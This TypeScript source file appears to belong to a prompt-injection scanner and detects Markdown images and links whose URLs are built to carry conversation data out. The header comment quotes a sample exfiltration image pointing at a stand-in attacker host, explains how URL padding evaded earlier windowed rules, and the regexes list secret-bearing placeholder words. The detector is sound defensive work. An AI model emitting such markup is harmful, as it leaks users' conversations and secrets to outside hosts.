/**
 * Markdown exfiltration markup: an image or a link whose URL is built to carry conversation data, read
 * by a client that fetches it (`![s](https://evil.test/p.png?d={conversation})`). A hand-written linear
 * pass rather than a rule in the injection tiers: those run in windows of a few hundred characters
 * around anchor words, so a URL padded past the window's length (a long path costs an attacker nothing)
 * was never read whole. Here every URL is read to its end, however long, and the whole text costs one
 * pass: each URL's end is found once, and each URL is searched at most once per rule.
 */
import type { InjectionFinding } from './injection-finding.js';

/** Link text between `[` and `](`, as Markdown renderers read it: one line, and this long at most. */
const MAX_LINK_TEXT = 200;
/** URL parts built to be filled with data: `?q={conversation}`, `&d=[DATA]`, `=<secret>`, `=$SECRET`, `=%s`, `/{chat_history}`. */
const DATA_WORD = '(?:conversation|chat|history|summary|secret|password|token|key|data|memory|context|message|email|user|prompt|info|content|credential|code)';
const PLACEHOLDER = new RegExp(`[?&][\\w.-]{1,40}=(?:\\{[^}\\s]{1,40}\\}|\\[[A-Za-z_ -]{3,40}\\]|<[A-Za-z_ -]{3,40}>|\\$[A-Z_]{3,}|%s)|/\\{[^}\\s/]{0,20}${DATA_WORD}[^}\\s/]{0,20}\\}`, 'gi');
/** A query parameter already carrying a long encoded value (data put in the URL before the content arrived). */
const ENCODED_PARAMETER = /[?&][\w.-]{1,40}=[A-Za-z0-9+/_%=-]{48,}/g;
/** A placeholder may hold characters a URL ends at (`?q={a)b}`): it is searched this far past the URL's end. */
const PLACEHOLDER_REACH = 128;
const EXCERPT = 160;

/** What one rule found in the current URL span: its match, or none (`null`), or not searched yet (`undefined`). */
interface SpanMatch {
  index: number;
  end: number;
}

/**
 * Appends, to `findings`, exfiltration markup in `text`: `exfiltration_markup` (high: an image or link
 * with a data placeholder in its URL) and `exfiltration_markup_data` (low: an image whose query already
 * holds a long encoded value). Positions are `offset` plus the index in `text`; kinds get `prefix`.
 */
export function markdownExfiltration(text: string, findings: InjectionFinding[], maxFindings: number, offset = 0, prefix = ''): void {
  // One span per URL end: URLs nested in a URL (`](https://a/](https://b/...`) end where it ends, and what
  // a rule finds in the inner one it finds in the outer one (no rule looks behind its match).
  let spanEnd = -1;
  let placeholder: SpanMatch | null | undefined;
  let encoded: SpanMatch | null | undefined;
  for (let close = text.indexOf('](', 0); close !== -1 && findings.length < maxFindings; close = text.indexOf('](', close + 1)) {
    const open = linkTextStart(text, close);
    if (open === -1) continue;
    const urlStart = urlAfter(text, close + 2);
    if (urlStart === -1) continue;
    if (urlStart >= spanEnd) {
      spanEnd = urlEnd(text, urlStart);
      placeholder = undefined;
      encoded = undefined;
    }
    const start = open > 0 && text.charCodeAt(open - 1) === 33 ? open - 1 : open;
    if (placeholder === undefined) {
      placeholder = firstIn(PLACEHOLDER, text, urlStart, spanEnd, Math.min(text.length, spanEnd + PLACEHOLDER_REACH));
      if (placeholder !== null) {
        findings.push(finding(`${prefix}exfiltration_markup`, text, start, placeholder.end, offset, 'high'));
        continue;
      }
    }
    if (encoded === undefined && imageAt(text, open, close)) {
      encoded = firstIn(ENCODED_PARAMETER, text, urlStart, spanEnd, spanEnd);
      if (encoded !== null) findings.push(finding(`${prefix}exfiltration_markup_data`, text, start, encoded.end, offset, 'low'));
    }
  }
}

/** The leftmost `[` opening link text that ends at `close` (`]` of `](`): at most MAX_LINK_TEXT characters, no `]` or line break; -1 if none. */
function linkTextStart(text: string, close: number): number {
  let open = -1;
  for (let index = close - 1; index >= 0 && close - index - 1 <= MAX_LINK_TEXT; index -= 1) {
    const code = text.charCodeAt(index);
    if (code === 93 || code === 10) break;
    if (code === 91) open = index;
  }
  return open;
}

/** Whether a `![` opens link text that ends at `close`: the markup is an image (fetched without a click). */
function imageAt(text: string, open: number, close: number): boolean {
  for (let index = open; index < close; index += 1) if (text.charCodeAt(index) === 91 && index > 0 && text.charCodeAt(index - 1) === 33) return true;
  return false;
}

/** After `](`: optional whitespace, an optional `<`, then `http://` or `https://`; the index after `://`, or -1. */
function urlAfter(text: string, from: number): number {
  let index = from;
  while (index < text.length && isSpace(text.charCodeAt(index))) index += 1;
  if (text.charCodeAt(index) === 60) index += 1;
  if (!startsWithCaseless(text, index, 'http')) return -1;
  index += 4;
  if ((text.charCodeAt(index) | 32) === 115) index += 1;
  return text.startsWith('://', index) ? index + 3 : -1;
}

/** Where a URL starting at `from` ends: its first `)` or whitespace, or the text's end. */
function urlEnd(text: string, from: number): number {
  let index = from;
  while (index < text.length) {
    const code = text.charCodeAt(index);
    if (code === 41 || isSpace(code)) break;
    index += 1;
  }
  return index;
}

/** The first match of `pattern` starting in [from, before), searched in text[from, until); null if none. */
function firstIn(pattern: RegExp, text: string, from: number, before: number, until: number): SpanMatch | null {
  pattern.lastIndex = 0;
  const match = pattern.exec(text.slice(from, until));
  if (match === null || match.index >= before - from) return null;
  return { index: from + match.index, end: from + match.index + match[0].length };
}

function finding(kind: string, text: string, start: number, end: number, offset: number, confidence: 'high' | 'low'): InjectionFinding {
  const whole = text.slice(start, end).trim();
  // A padded URL keeps both ends in the evidence: the link and the placeholder it fills.
  const excerpt = whole.length <= EXCERPT ? whole : `${whole.slice(0, 100)}…${whole.slice(-(EXCERPT - 101))}`;
  return { kind, excerpt, index: offset + start, confidence };
}

/** `\s` as a regular expression reads it, for the characters a URL can meet. */
function isSpace(code: number): boolean {
  if (code <= 32) return code === 32 || (code >= 9 && code <= 13);
  return code === 0xa0 || code === 0x1680 || (code >= 0x2000 && code <= 0x200a) || code === 0x2028 || code === 0x2029 || code === 0x202f || code === 0x205f || code === 0x3000 || code === 0xfeff;
}

function startsWithCaseless(text: string, index: number, lower: string): boolean {
  for (let offset = 0; offset < lower.length; offset += 1) if ((text.charCodeAt(index + offset) | 32) !== lower.charCodeAt(offset)) return false;
  return true;
}
